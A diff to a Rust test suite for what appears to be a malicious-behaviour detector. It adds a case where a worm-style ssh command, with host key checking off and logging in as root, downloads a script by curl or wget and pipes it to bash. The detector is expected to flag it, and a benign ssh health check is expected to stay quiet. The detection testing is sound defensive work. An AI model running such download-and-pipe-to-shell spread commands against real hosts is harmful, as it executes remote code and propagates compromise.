@@ -7983,6 +7983,25 @@ fn miner_and_botnet_script_behaviours_and_their_benign_twins() {
         "exec-interpreter-downloaded-program",
         SeverityLabel::High,
     );
+    if which("ssh").is_err() {
+        not_tested("ssh is not installed: the spread over ssh is not tested");
+    } else {
+        // A worm's spread over ssh (to a closed port on 127.0.0.1: the exec is the evidence).
+        raised(
+            "ssh-spread.sh",
+            &format!(
+                "ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=2 -p 1 root@127.0.0.1 \"(curl -fsSL {url}/x.sh||wget -q -O- {url}/x.sh)|bash\"\ntrue"
+            ),
+            "exec-remote-download-pipe-shell",
+            SeverityLabel::High,
+        );
+        quiet(
+            "ssh-health.sh",
+            &format!(
+                "ssh -oBatchMode=yes -oConnectTimeout=2 -p 1 root@127.0.0.1 \"curl -s {url}/v.json | jq .\"\ntrue"
+            ),
+        );
+    }
     quiet(
         "py-print.sh",
         &format!(
